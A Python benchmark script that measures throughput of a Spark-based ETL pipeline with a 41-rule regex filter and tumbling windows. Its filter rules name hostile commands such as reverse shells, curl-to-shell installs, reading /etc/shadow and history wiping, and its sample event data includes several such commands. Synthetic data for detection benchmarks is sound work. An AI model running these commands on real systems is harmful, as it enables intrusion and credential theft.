#!/usr/bin/env python3
"""Windowed throughput: generator -> filter with 41 regex rules -> tumbling 10 s count by key -> file.

    .venv/bin/python bench/window.py --events 1000000 [--batch 500000] [--repeat 2] [--variants count,distinct,...]

One etl pipeline run with --once (AvailableNow) through the real compile/runtime path:
the seeded generator (event time 20,000 events per second, 100 keys, a command line per
event), a `filter` whose 41 regex rules go through etl.optimize (one Hyperscan scan of
the field per batch, mapInArrow), a tumbling 10 s window counting events per key on the
native engine (RocksDB state, watermark 5 s declared on the window, append mode) and the file sink (jsonl).
events_per_s = events / wall time of the run (query start to the last commit, after a
warm-up run on 100,000 events); p99_batch_s = the 99th percentile of the micro-batch
durations (triggerExecution). Best of --repeat runs. The line before the last gives the
CPU seconds the run used (this process, the JVM and the Python workers): on a shared,
busy machine, events / (cpu_s / cores) is what the run would reach on idle cores. Last line:

    window events=M events_per_s=X p99_batch_s=Y

Variants, in the same run (same session, same machine load), one line each before the last:
* count: the pipeline above (today's figure, the last line);
* distinct: the same window with an exact `count_distinct` of a per-event id beside the count
  (each window and key keeps the set of its ids in state until it closes);
* update: 2 % of the events 20 s late (a derive moves their event time back), the window on the
  state engine with `emit: {late: update, allowed_lateness: 30s}` (each late event updates its
  closed window: an update row) -- against `late_drop`, the same input on the native engine,
  which drops them;
* --counts on,off: each variant with ETL_COMPONENT_COUNTS on and off, their runs alternating (the cost of
  counting every transform's rows, etl.compile.counts); each line then names its setting and gives the median
  CPU seconds of its runs, and a last `counts` line the ratio of the medians (on / off);
* distinct_1m: no filter, one 1 h window without group_by counting all distinct ids exactly
  (--events distinct values in one set), run with --drain so that the window closes; state_mb =
  the largest RocksDB state the progress reports, ckpt_mb = the state folder on disk at the end.
"""

from __future__ import annotations

import argparse
import json
import math
import os
import shutil
import sys
import tempfile
import textwrap
import time
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

# 41 rules over the command line (drop mode: events matching any of them are removed)
PATTERNS = [
    r"curl .*\| *(ba)?sh", r"wget\s+https?://\S+\.(sh|py|pl)\b", r"\bnc\s+-e\s+/bin/(ba)?sh", r"base64\s+-d",
    r"/etc/(passwd|shadow)", r"chmod\s+\+x\s+/tmp/\w+", r"python[23]?\s+-c\s+.*socket", r"\bnmap\b",
    r"mimikatz", r"bash\s+-i\s+>&\s*/dev/tcp/", r"rm\s+-rf\s+/(\s|$)", r"\bcrontab\s+-r\b", r"ssh\s+-R\s+\d+:",
    r"powershell.*-enc", r"\bxmrig\b", r"stratum\+tcp://", r"/dev/shm/\.\w+", r"iptables\s+-F",
    r"history\s+-c", r"\bunset\s+HISTFILE\b", r"echo\s+\S{24,}\s*\|\s*base64", r"\bsocat\b.*exec",
    r"\btelnet\s+\d+\.\d+\.\d+\.\d+\s+\d+", r"authorized_keys", r"\bid_rsa\b", r"\.onion\b",
    r"\bsetuid\b", r"\bLD_PRELOAD=", r"/proc/\d+/mem", r"\bdd\s+if=/dev/(sd|nvme)", r"\bshred\s+-",
    r"\bkill\s+-9\s+-1\b", r"\btcpdump\b.*-w", r"\bchattr\s+\+i\b", r"\bpkexec\b", r"sudo\s+-l\b",
    r"\bfind\s+/\s+-perm\s+-4000", r"\bgcc\b.*-o\s+/tmp/", r"\bperl\s+-e\b", r"\bruby\s+-rsocket\b",
    r"\bphp\s+-r\b.*fsockopen",
]
PIPELINE = """\
    name: bench-window
    sources:
      - id: events
        type: generator
        count: {count}
        rate: 20000
        seed: 7
        rows_per_batch: {batch}
        fields:
          ts: {{timestamp: event}}
          id: {{sequence: 0}}
          key: {{choice: {keys}}}
          cmd: {{choice: {cmds}}}
    transforms:
      - id: clean
        type: filter
        input: events
        mode: drop
        rules: {rules}
{timed}      - id: per_key
        type: window
        input: {window_input}
        kind: tumbling
        size: {size}
        group_by: {group_by}
        aggregates: {aggregates}
        {window_extra}
    sinks:
      - {{id: out, type: file, input: per_key, path: {output}, format: jsonl}}
    checkpoint: {checkpoint}
"""
CMDS = ["ls -la /var/log", "cat /etc/hosts", "grep -r TODO src", "tar czf backup.tgz /srv/data", "git pull --rebase",
        "docker ps -a", "kubectl get pods -n prod", "systemctl restart nginx", "python3 manage.py migrate",
        "curl -s https://example.com/install.sh | sh", "cat /etc/shadow", "nmap -sS 10.0.0.0/24", "df -h",
        "journalctl -u ssh --since today", "make -j4", "ssh -R 9000:localhost:22 relay.example.com",
        "find / -perm -4000 -type f", "rsync -a /srv /mnt/backup", "vim /etc/nginx/nginx.conf", "top -b -n 1"]


def rules_yaml() -> str:
    rules = [{"id": f"r{i:02d}", "when": {"field": "cmd", "regex": p, "caseless": i % 3 == 0}}
             for i, p in enumerate(PATTERNS)]
    return json.dumps(rules)


class Durations:
    """Micro-batch durations of every query, through a StreamingQueryListener."""

    def __init__(self, spark: Any):
        from pyspark.sql.streaming import StreamingQueryListener

        outer = self
        self.seconds: list[float] = []

        class L(StreamingQueryListener):
            def onQueryStarted(self, event: Any) -> None:
                pass

            def onQueryProgress(self, event: Any) -> None:
                p = event.progress
                if p.numInputRows > 0:
                    outer.seconds.append(p.durationMs.get("triggerExecution", 0) / 1000.0)

            def onQueryIdle(self, event: Any) -> None:
                pass

            def onQueryTerminated(self, event: Any) -> None:
                pass

        self.listener = L()
        spark.streams.addListener(self.listener)

    def p99(self) -> float:
        xs = sorted(self.seconds)
        return xs[min(len(xs) - 1, math.ceil(0.99 * len(xs)) - 1)] if xs else float("nan")


def tree_cpu() -> float:
    """CPU seconds (user + system) used so far by this process and every process below it."""
    me, procs = os.getpid(), {}
    for d in os.listdir("/proc"):
        if d.isdigit():
            try:
                with open(f"/proc/{d}/stat") as fh:
                    f = fh.read().rsplit(")", 1)[1].split()
                procs[int(d)] = (int(f[1]), sum(int(x) for x in f[11:15]))
            except (OSError, IndexError, ValueError):
                continue
    total = 0
    for pid, (_, ticks) in procs.items():
        p = pid
        while p and p != me and p in procs:
            p = procs[p][0]
        total += ticks if p == me else 0
    return total / os.sysconf("SC_CLK_TCK")


# the late variants' derive, only in their pipelines: a stage no sink reads is still evaluated per micro-batch
# for its dead letters (a query of its own reading the source a second time)
TIMED = """\
      - id: timed
        type: derive
        input: clean
        columns: {t2: "CASE WHEN id % 50 = 7 THEN ts - INTERVAL 20 SECONDS ELSE ts END"}
"""
COUNT = "[{fn: count, as: n}]"
TS = "event_time: {field: ts, watermark: 5s}"  # on the window (a window may not redefine its source's watermark)
VARIANTS = {  # name -> (window input, size, group_by, aggregates, extra window keys, drain)
    "count": ("clean", "10s", "[key]", COUNT, TS, False),
    "distinct": ("clean", "10s", "[key]", "[{fn: count, as: n}, {fn: count_distinct, field: id, as: ids}]", TS, False),
    "late_drop": ("timed", "10s", "[key]", COUNT, "event_time: {field: t2, watermark: 5s}", False),
    "update": ("timed", "10s", "[key]", COUNT,
               "event_time: {field: t2, watermark: 5s}\n        emit: {late: update, allowed_lateness: 30s}", False),
    "distinct_1m": ("events", "1h", "[]", "[{fn: count, as: n}, {fn: count_distinct, field: id, as: ids}]", TS, True),
}


class StateSize:
    """The largest state (memoryUsedBytes of the stateful operators) reported by the progress of any batch."""

    def __init__(self, spark: Any):
        from pyspark.sql.streaming import StreamingQueryListener

        outer = self
        self.max_bytes = 0

        class L(StreamingQueryListener):
            def onQueryStarted(self, event: Any) -> None:
                pass

            def onQueryProgress(self, event: Any) -> None:
                for op in event.progress.stateOperators:
                    outer.max_bytes = max(outer.max_bytes, op.memoryUsedBytes)

            def onQueryIdle(self, event: Any) -> None:
                pass

            def onQueryTerminated(self, event: Any) -> None:
                pass

        spark.streams.addListener(L())


def folder_mb(path: Path) -> float:
    return sum(f.stat().st_size for f in path.rglob("*") if f.is_file()) / 1e6


def run(spark: Any, count: int, batch: int, work: Path, variant: str = "count") -> tuple[float, int]:
    from etl.check import check_file
    from etl.runtime.runner import PipelineRun, RunOptions

    out, ck = work / "out", work / "ckpt"
    shutil.rmtree(out, ignore_errors=True)
    shutil.rmtree(ck, ignore_errors=True)
    p = work / "bench_window.yaml"
    inp, size, group_by, aggregates, extra, drain = VARIANTS[variant]
    p.write_text(textwrap.dedent(PIPELINE.format(count=count, batch=batch, output=out, checkpoint=ck,
                                                 keys=json.dumps([f"k{i:02d}" for i in range(100)]),
                                                 cmds=json.dumps(CMDS), rules=rules_yaml(), window_input=inp,
                                                 timed=TIMED if inp == "timed" else "",
                                                 size=size, group_by=group_by, aggregates=aggregates,
                                                 window_extra=extra)))
    c = check_file(p, programs=True)
    assert c.plan is not None, [d.render() for d in c.report.sorted()]
    runner = PipelineRun(c.plan, spark, RunOptions(once=not drain, drain=drain, progress="none", echo=lambda s: None))
    t0 = time.perf_counter()
    runner.start()
    runner.wait()
    seconds = time.perf_counter() - t0
    rows = [json.loads(line) for f in out.glob("*.jsonl") for line in f.read_text().splitlines()]
    if variant == "distinct_1m":
        assert [r["ids"] for r in rows] == [count], [r.get("ids") for r in rows]  # exact
    total = sum(r["n"] for r in rows if not r.get("_update"))
    run.updates = sum(1 for r in rows if r.get("_update"))  # type: ignore[attr-defined]
    run.ckpt_mb = folder_mb(ck)  # type: ignore[attr-defined]
    return seconds, total


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--events", type=int, default=1_000_000)
    # 500k: each micro-batch costs about 0.5 s whatever its size (the Python data source's job, the offset and
    # commit logs, the state store commit), so 250k-event batches spend about 2 s of a 1M-event run on that;
    # at 500k the slowest batch still takes well under the 2 s the target allows (bench/lookup.py: the same)
    ap.add_argument("--batch", type=int, default=500_000, help="generator rows per micro-batch")
    ap.add_argument("--repeat", type=int, default=2)
    ap.add_argument("--master", default="local[2]")
    ap.add_argument("--partitions", default="2", help="spark.sql.shuffle.partitions (state store partitions)")
    ap.add_argument("--counts", default="off", help="ETL_COMPONENT_COUNTS values to compare, e.g. on,off")
    ap.add_argument("--variants", default="count,distinct,late_drop,update,distinct_1m",
                    help=f"comma-separated, from {', '.join(VARIANTS)}; `count` gives the last line")
    args = ap.parse_args()
    variants = [v for v in args.variants.split(",") if v]

    import statistics

    from etl import settings
    from etl.runtime.session import build_session

    counts = [c for c in args.counts.split(",") if c]

    spark = build_session("etl-bench-window", args.master, {"spark.ui.enabled": "false",
                                                            "spark.sql.shuffle.partitions": args.partitions}, ui=False)
    work = Path(tempfile.mkdtemp(prefix="etl-bench-window-"))
    try:
        run(spark, 100_000, 50_000, work)  # warm-up: JIT, codegen, Python workers, Hyperscan database
        durations = Durations(spark)
        state = StateSize(spark)
        best: tuple[float, float, float] | None = None
        for variant in variants:
            vbest: dict[str, tuple[float, float, float]] = {}
            cpus: dict[str, list[float]] = {c: [] for c in counts}
            for r in range(args.repeat):
                for c in (counts if r % 2 == 0 else counts[::-1]):  # alternating: both see the same machine load
                    settings.configure({"ETL_COMPONENT_COUNTS": c})
                    durations.seconds = []
                    state.max_bytes = 0
                    cpu0 = tree_cpu()
                    seconds, counted = run(spark, args.events, args.batch, work, variant)
                    cpu = tree_cpu() - cpu0
                    time.sleep(0.5)  # the last progress event
                    rate, p99 = args.events / seconds, durations.p99()
                    cpus[c].append(cpu)
                    print(f"{variant} counts={c} run {r + 1}: {seconds:.2f} s, {rate:,.0f} events/s, "
                          f"batches={len(durations.seconds)} p99={p99:.2f} s, cpu={cpu:.1f} s, "
                          f"counted in closed windows={counted:,} update_rows={run.updates:,} "  # type: ignore[attr-defined]
                          f"state_mb={state.max_bytes / 1e6:.1f} ckpt_mb={run.ckpt_mb:.1f}",  # type: ignore[attr-defined]
                          flush=True)
                    if c not in vbest or rate > vbest[c][0]:
                        vbest[c] = (rate, p99, cpu)
            for c in counts:
                print(f"variant {variant} counts={c} events={args.events} events_per_s={vbest[c][0]:.0f} "
                      f"p99_batch_s={vbest[c][1]:.2f} cpu_s={vbest[c][2]:.1f} "
                      f"median_cpu_s={statistics.median(cpus[c]):.2f}", flush=True)
            if {"on", "off"} <= set(counts):
                on, off = statistics.median(cpus["on"]), statistics.median(cpus["off"])
                print(f"counts variant={variant} median_cpu_s on={on:.2f} off={off:.2f} ratio={on / off:.3f}", flush=True)
            if variant == "count":
                best = vbest[counts[0]]
    finally:
        spark.stop()
        shutil.rmtree(work, ignore_errors=True)
    if best is None:
        return
    cores = os.cpu_count() or 1
    print(f"cores={cores} master={args.master} batch={args.batch} rules={len(PATTERNS)} cpu_s={best[2]:.1f} "
          f"events_per_cpu_s={args.events / best[2]:.0f} idle_estimate_events_per_s={args.events / (best[2] / cores):.0f} "
          f"loadavg={os.getloadavg()[0]:.1f}")
    print(f"window events={args.events} events_per_s={best[0]:.0f} p99_batch_s={best[1]:.2f}")


if __name__ == "__main__":
    main()
